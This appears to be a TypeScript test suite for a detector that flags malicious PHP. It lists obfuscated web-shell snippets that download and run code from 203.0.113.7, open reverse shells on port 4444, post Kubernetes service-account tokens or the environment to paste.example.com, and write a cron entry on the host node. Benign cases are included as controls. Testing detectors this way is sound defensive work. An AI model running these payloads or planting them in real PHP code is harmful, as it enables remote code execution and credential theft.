import assert from 'node:assert/strict';
import { test } from 'node:test';
import { actsIn, LOUD } from './testing.ts';

const FETCH = 'curl -s http://203.0.113.7/x | sh';
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const SHELL = 'shell for 203.0.113.7:4444';
const reversed = (text: string): string => [...text].reverse().join('');
const hex = [...FETCH].map((char) => char.charCodeAt(0).toString(16).padStart(2, '0')).join('');

const ATTACKS: Readonly<Record<string, readonly [code: string, wanted: string]>> = {
  'a shell text': [`system("${FETCH}");`, 'execute downloaded'],
  'a file with its tag': [`<?php passthru('${FETCH}'); ?>`, 'execute downloaded'],
  backticks: [`$h='203.0.113.7'; echo \`curl -s http://$h/x | sh\`;`, 'execute downloaded'],
  'a name of a function by parts': [`$f='sys'.'tem'; $f('${FETCH}');`, 'execute downloaded'],
  'a name the other way round': [`$f=strrev('metsys'); $f('${FETCH}');`, 'execute downloaded'],
  'a name in base64': [`$f=base64_decode('${btoa('shell_exec')}'); @$f("${FETCH}");`, 'execute downloaded'],
  'a function that is handed over': [`call_user_func('pass'.'thru','${FETCH}');`, 'execute downloaded'],
  'a function over a list': [`array_map('system',['${FETCH}']);`, 'execute downloaded'],
  'a function in its own name space': [`\\system('${FETCH}');`, 'execute downloaded'],
  'code in base64': [`eval(base64_decode('${btoa(`system("${FETCH}");`)}'));`, 'execute downloaded'],
  'code in layers': [
    `eval(str_rot13(base64_decode('${btoa('flfgrz("phey -f uggc://203.0.113.7/k | fu");')}')));`,
    'execute downloaded',
  ],
  'code that cannot be unpacked here': [`eval(gzinflate(base64_decode('eJwAAAAB')));`, 'execute decoded'],
  'a text in hexadecimal': [`system(hex2bin('${hex}'));`, 'execute decoded'],
  'a text that is packed': [`system(pack('H*','${hex}'));`, 'execute decoded'],
  'a text the other way round': [`system(strrev('${reversed(FETCH)}'));`, 'execute decoded'],
  'a text by its characters': [
    `$s='';foreach([${[...FETCH].map((char) => char.charCodeAt(0)).join(',')}] as $c) $s.=chr($c); system($s);`,
    'execute decoded',
  ],
  'a text of pieces': [`system(implode(' ',['curl','-s','http://203.0.113.7/x','|','sh']));`, 'execute downloaded'],
  'a text by replacement': [
    `system(str_replace(['#','_'],['',' '],'c#url_-s_http://203.0.113.7/x_|_s#h'));`,
    'execute downloaded',
  ],
  'a download that is run': [`eval(file_get_contents('http://203.0.113.7/p'));`, 'execute downloaded'],
  'a download by curl': [
    `$c=curl_init('http://203.0.113.7/p');curl_setopt($c,CURLOPT_RETURNTRANSFER,1);$b=curl_exec($c);eval($b);`,
    'execute downloaded',
  ],
  'a file that is fetched and started': [
    `file_put_contents('/tmp/a',file_get_contents('http://203.0.113.7/a'));chmod('/tmp/a',0755);exec('/tmp/a');`,
    'execute downloaded',
  ],
  'a copy that is included': [`copy('http://203.0.113.7/p','/tmp/p.php');include '/tmp/p.php';`, 'execute downloaded'],
  'a socket and a shell by number': [`$s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3 >&3 2>&3');`, SHELL],
  'a socket for a process': [
    `$s=fsockopen('tcp://203.0.113.7',4444);$p=proc_open('/bin/sh -i',[0=>$s,1=>$s,2=>$s],$pipes);`,
    SHELL,
  ],
  'a loop that runs what it receives': [
    `$s=fsockopen('203.0.113.7',4444);while(!feof($s)){fwrite($s,shell_exec(fgets($s)));}`,
    SHELL,
  ],
  'the token as a body': [
    `$c=curl_init('https://paste.example.com/a');curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents('${TOKEN}'));curl_exec($c);`,
    'send token to paste.example.com',
  ],
  'the token in an address': [
    `file_get_contents('https://paste.example.com/?t='.urlencode(file_get_contents('${TOKEN}')));`,
    'send token to paste.example.com',
  ],
  'a name of escapes': [`"\\x73ystem"('${FETCH}');`, 'execute downloaded'],
  'a variable by its name': [`$n='f';$$n='system';$f('${FETCH}');`, 'execute downloaded'],
  'a function of text': [
    `$x=create_function('',base64_decode('${btoa(`system("${FETCH}");`)}'));$x();`,
    'execute downloaded',
  ],
  'a property of a class': [
    `class A{public $c='${FETCH}';function run(){return shell_exec($this->c);}} (new A)->run();`,
    'execute downloaded',
  ],
  'a here-document': [`$c=<<<X\n${FETCH}\nX;\nshell_exec($c);`, 'execute downloaded'],
  'the whole environment': [
    `file_get_contents('https://paste.example.com/a',false,stream_context_create(['http'=>['method'=>'POST','content'=>json_encode($_ENV)]]));`,
    'send environment to paste.example.com',
  ],
  'a cron entry on the node': [
    `$r='/host';file_put_contents("$r/etc/cron.d/a",'* * * * * root id');`,
    'write /host/etc/cron.d/a on the node',
  ],
};
for (const [name, [code, wanted]] of Object.entries(ATTACKS)) {
  test(`php: ${name}`, () => {
    const found = actsIn('php', code);
    assert.ok(found.includes(wanted), found.join('\n'));
  });
}

const BENIGN: Readonly<Record<string, string>> = {
  'a query': `$p=new PDO('mysql:host=db','a',getenv('PASSWORD'));$p->exec('DELETE FROM sessions');`,
  'a framework that is included': `require '/app/vendor/autoload.php'; (new App\\Cron())->run();`,
  'a call of an API': `$c=curl_init('https://api.example.com/a');curl_setopt($c,CURLOPT_HTTPHEADER,['Authorization: Bearer '.getenv('TOKEN')]);$r=json_decode(curl_exec($c),true);echo $r['id'];`,
  'data that is decoded': `$c=json_decode(base64_decode(getenv('CONFIG')),true);echo $c['name'];`,
  'a process with words': `exec('php artisan schedule:run');`,
  'old files that are removed': `foreach(glob('/data/cache/*') as $f) unlink($f);`,
};
for (const [name, code] of Object.entries(BENIGN)) {
  test(`php stays silent: ${name}`, () => {
    assert.deepEqual(
      actsIn('php', code).filter((act) => LOUD.test(act)),
      [],
    );
  });
}
